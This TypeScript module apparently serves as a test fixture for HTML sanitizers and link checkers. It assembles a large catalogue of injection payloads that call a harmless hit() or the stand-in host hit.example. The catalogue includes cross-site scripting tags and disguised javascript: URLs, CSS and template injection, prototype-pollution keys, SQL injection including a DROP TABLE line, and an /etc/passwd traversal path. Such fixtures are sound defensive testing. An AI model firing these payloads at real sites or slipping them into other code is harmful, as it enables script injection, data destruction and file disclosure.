// Texts that would run, load or cover something if they were ever taken for more than text. `hit` is what each of them
// calls or asks for: a page that stays clean has no `window.hit`, and no request to hit.example.
const call = 'hit()';

const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onbegin',
  'onpointerenter',
  'onbeforetoggle',
  'oncontentvisibilityautostatechange',
  'onwheel',
] as const;

const carriers = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'iframe src=x',
  'marquee',
  'object data=x',
  'math',
  'button popovertarget=x',
  'x contenteditable',
] as const;

const scripts = [
  `<script>${call}</script>`,
  `<SCRIPT SRC=//hit.example/a.js></SCRIPT>`,
  `<script/x>${call}</script/x>`,
  `"><script>${call}</script>`,
  `'><script>${call}</script>`,
  `</script><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `</title><script>${call}</script>`,
  `--><script>${call}</script>`,
  `]]><script>${call}</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script type=module>${call}</script>`,
  `<svg><script>${call}</script></svg>`,
  `<math><mtext><script>${call}</script></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<template><script>${call}</script></template>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.${call}</script>"></object>`,
  `<embed src="data:text/html,<script>parent.${call}</script>">`,
  `<base href="//hit.example/">`,
  `<meta http-equiv=refresh content="0;url=//hit.example/">`,
  `<link rel=stylesheet href=//hit.example/a.css>`,
  `<link rel=prefetch href=//hit.example/a>`,
  `<form action=//hit.example/><input autofocus name=a></form>`,
  `<img srcset="//hit.example/a 1x">`,
  `<img src=//hit.example/a.png>`,
  `<audio autoplay src=//hit.example/a.mp3>`,
  `<portal src=//hit.example/></portal>`,
] as const;

/** An address in each disguise that some parser has fallen for. */
const disguises: readonly ((scheme: string) => string)[] = [
  (scheme) => `${scheme}:${call}`,
  (scheme) => `${scheme.toUpperCase()}:${call}`,
  (scheme) => ` ${scheme}:${call}`,
  (scheme) => `\t${scheme}:${call}`,
  (scheme) => `\n${scheme}:${call}`,
  (scheme) => `\u0001${scheme}:${call}`,
  (scheme) => `\u00a0${scheme}:${call}`,
  (scheme) => `\ufeff${scheme}:${call}`,
  (scheme) => `${scheme.slice(0, 4)}\t${scheme.slice(4)}:${call}`,
  (scheme) => `${scheme.slice(0, 4)}\n${scheme.slice(4)}:${call}`,
  (scheme) => `${scheme.slice(0, 4)}\r\n${scheme.slice(4)}:${call}`,
  (scheme) => `${scheme}&colon;${call}`,
  (scheme) => `&#106;${scheme.slice(1)}:${call}`,
  (scheme) => `&#x6a${scheme.slice(1)}:${call}`,
  (scheme) => `${scheme}%3a${call}`,
  (scheme) => `${scheme}://%0a${call}`,
  (scheme) => `${scheme}://https://acme.example/%0d%0a${call}`,
  (scheme) => `${scheme}:/*https://acme.example*/${call}`,
  (scheme) => `feed:${scheme}:${call}`,
  (scheme) => `view-source:${scheme}:${call}`,
  (scheme) => `"${scheme}:${call}"`,
  (scheme) => `<a href="${scheme}:${call}">x</a>`,
];

const schemes = ['javascript', 'vbscript', 'livescript'] as const;

const addresses = [
  ...schemes.flatMap((scheme) => disguises.map((disguise) => disguise(scheme))),
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`,
  'blob:https://hit.example/0195e1c2',
  'filesystem:https://hit.example/temporary/a',
  '//hit.example/',
  '/\\hit.example/',
  '\\\\hit.example\\a',
  'https:hit.example',
  'https://acme.example@hit.example/',
  'https://acme.example%2f@hit.example/',
  'mailto:a@b.example?cc=all@hit.example',
];

const styles = [
  'url(//hit.example/a.png)',
  'red;background:url(//hit.example/a.png)',
  'red}*{background:url(//hit.example/a.png)}',
  '</style><script>hit()</script>',
  '@import "//hit.example/a.css";',
  '@font-face{src:url(//hit.example/a.woff)}',
  'expression(hit())',
  'image-set("//hit.example/a.png" 1x)',
  'var(--x,url(//hit.example/a.png))',
  'red\\;background\\:url(//hit.example/a.png)',
  'calc(1px);behavior:url(//hit.example/a.htc)',
  'position:fixed;inset:0;z-index:2147483647',
  '-moz-binding:url(//hit.example/a.xml#a)',
  'attr(data-x url)',
  'src(//hit.example/a.png)',
  'element(#hit)',
];

const templates = [
  '{{constructor.constructor("hit()")()}}',
  '${hit()}',
  '#{hit()}',
  '<%= hit() %>',
  '{{= hit() }}',
  '{{{hit()}}}',
  '{% hit() %}',
  '[[hit()]]',
  '__proto__',
  'constructor',
  'prototype',
  '{"__proto__":{"hit":1}}',
  'toString',
  'hasOwnProperty',
  '%s%d%n',
  '=HYPERLINK("//hit.example")',
  '@SUM(1)',
  "' OR 1=1 --",
  '"; DROP TABLE responses; --',
  '../../../etc/passwd',
];

const bidi = ['\u202a', '\u202b', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u200f', '\u061c'];
const odd = [
  ...bidi.map((mark) => `abc${mark}def <img src=x onerror=${call}>`),
  `\u0000<img src=x onerror=${call}>`,
  `<img\u0000src=x onerror=${call}>`,
  `<im\u0000g src=x onerror=${call}>`,
  `\ud800<img src=x onerror=${call}>`,
  `\ufffe<svg onload=${call}>`,
  `＜img src=x onerror=${call}＞`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `\u2028<img src=x onerror=${call}>\u2029`,
  `&lt;img src=x onerror=${call}&gt;`,
  `%3Cimg%20src=x%20onerror=${call}%3E`,
  `\\u003cimg src=x onerror=${call}\\u003e`,
  'Z̸̡̢a̷l̵g̶o̴'.repeat(20),
  '👩‍👩‍👧‍👦'.repeat(40),
];

/** Every one of them once. */
export const payloads: readonly string[] = [
  ...new Set([
    ...carriers.flatMap((carrier) => handlers.map((handler) => `<${carrier} ${handler}=${call}>`)),
    ...scripts,
    ...addresses,
    ...styles,
    ...templates,
    ...odd,
  ]),
];

/** Those that a reader of links could fall for. */
export const payloadAddresses: readonly string[] = addresses;
